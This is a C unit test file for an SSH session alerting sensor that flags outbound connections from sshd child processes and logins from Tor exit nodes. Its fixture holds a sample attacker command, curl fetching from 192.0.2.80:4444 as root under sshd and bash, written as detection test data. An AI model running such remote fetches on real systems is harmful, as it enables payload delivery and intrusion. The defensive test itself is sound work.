// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* Session events to alerts: sshd_child_egress is medium, high from an exit
 * node, names the destination, the process (from what the kernel kept when
 * /proc no longer has it), its parents and the session; repeats within the
 * window fold into one summary with the count; ssh_login_from_tor names the
 * client and the user. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <string.h>
#include <unistd.h>
#include "alerts/ecs.h"
#include "sensors/session/session_alerts.h"

#define SEC 1000000000ULL

static void v4(struct tw_in6 *a, const char *ip)
{
	memset(a, 0, sizeof(*a));
	a->addr[10] = a->addr[11] = 0xff;
	inet_pton(AF_INET, ip, &a->addr[12]);
}

/* An egress of a process long gone (pid 1 is never it: no /proc entry
 * matches 4000000, beyond pid_max). */
static struct tw_session_event egress_event(bool from_exit)
{
	struct tw_session_event ev = { .kind = TW_EV_SSHD_EGRESS, .session_id = 0xabc,
				       .pid = 4000000, .tgid = 4000000, .uid = 0, .dport = 4444,
				       .proto = 6, .n_chain = 2 };

	v4(&ev.daddr, "192.0.2.80");
	v4(&ev.session.client, "198.51.100.7");
	ev.session.client_port = 50000;
	ev.session.local_port = 22;
	ev.session.is_exit = from_exit;
	ev.session.login_seen = 1;
	ev.session.login_uid = 0;
	memcpy(ev.comm, "curl", 5);
	memcpy(ev.exe, "/usr/bin/curl", 14);
	memcpy(ev.args, "curl\0-s\0http://192.0.2.80:4444/x", 33);
	ev.args_len = 33;
	ev.chain[0].tgid = 3999999;
	memcpy(ev.chain[0].comm, "bash", 5);
	ev.chain[1].tgid = 3999998;
	memcpy(ev.chain[1].comm, "sshd-session", 13);
	return ev;
}

static void test_egress_alert(void **state)
{
	struct tw_source_info sources[TW_MAX_SOURCES] = {};
	struct tw_session_event ev = egress_event(true);
	struct json_object *a;

	sources[0].in_use = 1;
	snprintf(sources[0].name, sizeof(sources[0].name), "exit-addresses");
	ev.session.sources = 1;
	a = tw_session_event_alert(NULL, &ev, sources, 0, SEC);
	assert_non_null(a);
	assert_string_equal(tw_json_get_string(a, "rule.id"), "sshd_child_egress");
	assert_string_equal(tw_json_get_string(a, "log.level"), "high");
	assert_int_equal(json_object_get_int(tw_json_get(a, "event.severity")), 73);
	assert_string_equal(tw_json_get_string(a, "destination.ip"), "192.0.2.80");
	assert_int_equal(json_object_get_int(tw_json_get(a, "destination.port")), 4444);
	assert_string_equal(tw_json_get_string(a, "network.transport"), "tcp");
	assert_string_equal(tw_json_get_string(a, "process.executable"), "/usr/bin/curl");
	assert_string_equal(tw_json_get_string(a, "process.command_line"),
			    "curl -s http://192.0.2.80:4444/x");
	assert_string_equal(tw_json_get_string(a, "process.parent.name"), "bash");
	assert_int_equal(json_object_array_length(tw_json_get(a, "torwatch.process_chain")), 2);
	assert_string_equal(tw_json_get_string(a, "torwatch.session.client.ip"), "198.51.100.7");
	assert_true(json_object_get_boolean(tw_json_get(a, "torwatch.session.from_exit_node")));
	assert_string_equal(tw_json_get_string(a, "threat.indicator.provider"), "exit-addresses");
	json_object_put(a);
	ev = egress_event(false);
	a = tw_session_event_alert(NULL, &ev, sources, 0, SEC);
	assert_string_equal(tw_json_get_string(a, "log.level"), "medium");
	assert_null(tw_json_get(a, "threat.indicator.ip"));
	json_object_put(a);
}

static void test_repeats_fold(void **state)
{
	struct tw_source_info sources[TW_MAX_SOURCES] = {};
	struct tw_egress_dedup *d = tw_egress_dedup_new();
	struct tw_session_event ev = egress_event(false);
	struct json_object *a;

	a = tw_session_event_alert(d, &ev, sources, 60 * SEC, 1 * SEC);
	assert_non_null(a);
	json_object_put(a);
	ev.repeats = 4;	/* held back in the kernel before this one */
	assert_null(tw_session_event_alert(d, &ev, sources, 60 * SEC, 2 * SEC));
	ev.repeats = 0;
	assert_null(tw_session_event_alert(d, &ev, sources, 60 * SEC, 3 * SEC));
	/* Another destination is another key. */
	ev.dport = 4445;
	a = tw_session_event_alert(d, &ev, sources, 60 * SEC, 3 * SEC);
	assert_non_null(a);
	json_object_put(a);
	assert_null(tw_egress_flush_next(d, sources, 60 * SEC, 30 * SEC));
	a = tw_egress_flush_next(d, sources, 60 * SEC, 62 * SEC);
	assert_non_null(a);
	assert_int_equal(json_object_get_int(tw_json_get(a, "event.count")), 6);
	assert_int_equal(json_object_get_int(tw_json_get(a, "destination.port")), 4444);
	assert_true(json_object_get_boolean(tw_json_get(a, "torwatch.summary")));
	json_object_put(a);
	assert_null(tw_egress_flush_next(d, sources, 60 * SEC, 64 * SEC));	/* 4445 had none */
	tw_egress_dedup_free(d);
}

static void test_login_alert(void **state)
{
	struct tw_source_info sources[TW_MAX_SOURCES] = {};
	struct tw_session_event ev = egress_event(true);
	struct json_object *a;

	ev.kind = TW_EV_SSH_LOGIN;
	a = tw_session_event_alert(NULL, &ev, sources, 0, SEC);
	assert_string_equal(tw_json_get_string(a, "rule.id"), "ssh_login_from_tor");
	assert_string_equal(tw_json_get_string(a, "log.level"), "critical");
	/* uid 0 is root in our own /etc/passwd, where the process is gone. */
	assert_string_equal(tw_json_get_string(a, "message"),
			    "SSH Login from TOR Exit Node (198.51.100.7) as root");
	assert_string_equal(tw_json_get_string(a, "source.ip"), "198.51.100.7");
	assert_int_equal(json_object_get_int(tw_json_get(a, "destination.port")), 22);
	assert_string_equal(tw_json_get_string(a, "user.name"), "root");
	json_object_put(a);
}

/* Authenticated (the pre-auth child exited 0) and nothing named the user:
 * after the grace time, the login as the user the session's sshd runs as;
 * an authenticated session whose login was named is alerted once. */
static void test_login_after_auth(void **state)
{
	struct tw_source_info sources[TW_MAX_SOURCES] = {};
	struct tw_egress_dedup *d = tw_egress_dedup_new();
	struct tw_session_event ev = egress_event(true);
	struct json_object *a;
	char uid[16];

	ev.kind = TW_EV_SSH_AUTH;
	ev.session.login_seen = 0;
	ev.session.sshd_tgid = (uint32_t)getpid();	/* a process that is alive */
	assert_null(tw_session_event_alert(d, &ev, sources, 60 * SEC, 10 * SEC));
	assert_null(tw_egress_flush_next(d, sources, 60 * SEC, 11 * SEC));	/* still waiting */
	a = tw_egress_flush_next(d, sources, 60 * SEC, 12 * SEC);
	assert_non_null(a);
	assert_string_equal(tw_json_get_string(a, "rule.id"), "ssh_login_from_tor");
	snprintf(uid, sizeof(uid), "%u", (unsigned)getuid());
	assert_string_equal(tw_json_get_string(a, "user.id"), uid);
	json_object_put(a);
	ev.kind = TW_EV_SSH_LOGIN;	/* the kernel names it later: no second alert */
	assert_null(tw_session_event_alert(d, &ev, sources, 60 * SEC, 13 * SEC));
	/* Another session: its login comes within the grace time, once. */
	ev.session_id = 0xdef;
	ev.kind = TW_EV_SSH_AUTH;
	assert_null(tw_session_event_alert(d, &ev, sources, 60 * SEC, 20 * SEC));
	ev.kind = TW_EV_SSH_LOGIN;
	a = tw_session_event_alert(d, &ev, sources, 60 * SEC, 20 * SEC + 1);
	assert_non_null(a);
	json_object_put(a);
	assert_null(tw_egress_flush_next(d, sources, 60 * SEC, 30 * SEC));
	tw_egress_dedup_free(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_egress_alert),
		cmocka_unit_test(test_repeats_fold),
		cmocka_unit_test(test_login_alert),
		cmocka_unit_test(test_login_after_auth),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
